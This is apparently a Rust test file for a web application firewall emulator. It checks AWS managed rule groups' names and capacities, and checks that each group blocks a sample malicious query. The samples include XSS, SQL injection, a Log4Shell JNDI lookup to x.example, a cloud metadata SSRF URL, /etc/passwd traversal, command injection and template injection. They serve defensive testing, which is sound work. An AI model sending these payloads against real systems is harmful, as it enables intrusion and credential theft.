use std::collections::HashSet;

use super::*;
use crate::language::{ActionKind, Entry, GroupUse, Policy};
use crate::program::{Circumstances, Program, Scratch};
use crate::request::WebRequest;

fn group(name: &str) -> &'static ManagedRuleGroup {
    groups().iter().find(|group| group.name == name).unwrap()
}

fn decide(names: &[&str], request: &WebRequest<'_>) -> ActionKind {
    let entries = names.iter().map(|name| {
        Entry::Group(GroupUse {
            name: (*name).to_owned(),
            group: Arc::new(group(name).group(&AddressLists::default())),
            scope: None,
            overrides: std::collections::HashMap::new(),
            is_counted: false,
        })
    });
    let policy = Policy {
        id: "acl".to_owned(),
        label_namespace: "awswaf:111122223333:webacl:acl:".to_owned(),
        entries: entries.collect(),
        default: Action::plain(ActionKind::Allow),
        captcha_immunity_seconds: 300,
        challenge_immunity_seconds: 300,
    };
    let program = Program::compile(&policy).unwrap();
    let mut scratch = Scratch::default();
    program.decide(request, &Circumstances::default(), &mut scratch).action()
}

const BROWSER: (&[u8], &[u8]) = (b"user-agent", b"Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0");

#[test]
fn rules_and_labels_have_names_of_their_own() {
    for group in groups() {
        let rules = group.group(&AddressLists::default()).rules;
        let names: HashSet<_> = rules.iter().map(|rule| rule.name.clone()).collect();
        assert_eq!(names.len(), rules.len(), "{}", group.name);
        assert!(!rules.is_empty() && group.capacity > 0 && group.label_namespace.ends_with(':'));
    }
}

#[test]
fn capacities_are_aws_s() {
    for (name, capacity) in [
        ("AWSManagedRulesCommonRuleSet", 700),
        ("AWSManagedRulesAdminProtectionRuleSet", 100),
        ("AWSManagedRulesKnownBadInputsRuleSet", 200),
        ("AWSManagedRulesSQLiRuleSet", 200),
        ("AWSManagedRulesLinuxRuleSet", 200),
        ("AWSManagedRulesUnixRuleSet", 100),
        ("AWSManagedRulesWindowsRuleSet", 200),
        ("AWSManagedRulesPHPRuleSet", 100),
        ("AWSManagedRulesWordPressRuleSet", 100),
        ("AWSManagedRulesAmazonIpReputationList", 25),
        ("AWSManagedRulesAnonymousIpList", 50),
        ("AWSManagedRulesBotControlRuleSet", 50),
    ] {
        assert_eq!(group(name).capacity, capacity, "{name}");
    }
}

#[test]
fn each_group_blocks_what_it_is_for() {
    let client = "192.0.2.1".parse().unwrap();
    for (name, path, query) in [
        ("AWSManagedRulesCommonRuleSet", "/", "q=<script>go(1)</script>"),
        ("AWSManagedRulesCommonRuleSet", "/a.log", ""),
        ("AWSManagedRulesCommonRuleSet", "/", "u=http://169.254.169.254/latest/meta-data"),
        ("AWSManagedRulesAdminProtectionRuleSet", "/phpmyadmin/", ""),
        ("AWSManagedRulesKnownBadInputsRuleSet", "/", "q=${jndi:ldap://x.example/a}"),
        ("AWSManagedRulesSQLiRuleSet", "/", "q=1'+or+'1'='1"),
        ("AWSManagedRulesLinuxRuleSet", "/", "f=/etc/passwd"),
        ("AWSManagedRulesUnixRuleSet", "/", "h=1;cat+/x"),
        ("AWSManagedRulesWindowsRuleSet", "/", "h=1%26dir+c:%5c"),
        ("AWSManagedRulesPHPRuleSet", "/", "h=<?php+1"),
        ("AWSManagedRulesWordPressRuleSet", "/xmlrpc.php", ""),
        ("BartizanInjectionRuleSet", "/", "h={{7*7}}"),
    ] {
        let headers = [BROWSER];
        let mut request = WebRequest::new(client, path.as_bytes());
        request.headers = &headers;
        if !query.is_empty() {
            assert_eq!(decide(&[name], &request), ActionKind::Allow, "{name}: {path}");
        }
        request.query = query.as_bytes();
        assert_eq!(decide(&[name], &request), ActionKind::Block, "{name}: {path}?{query}");
    }
}
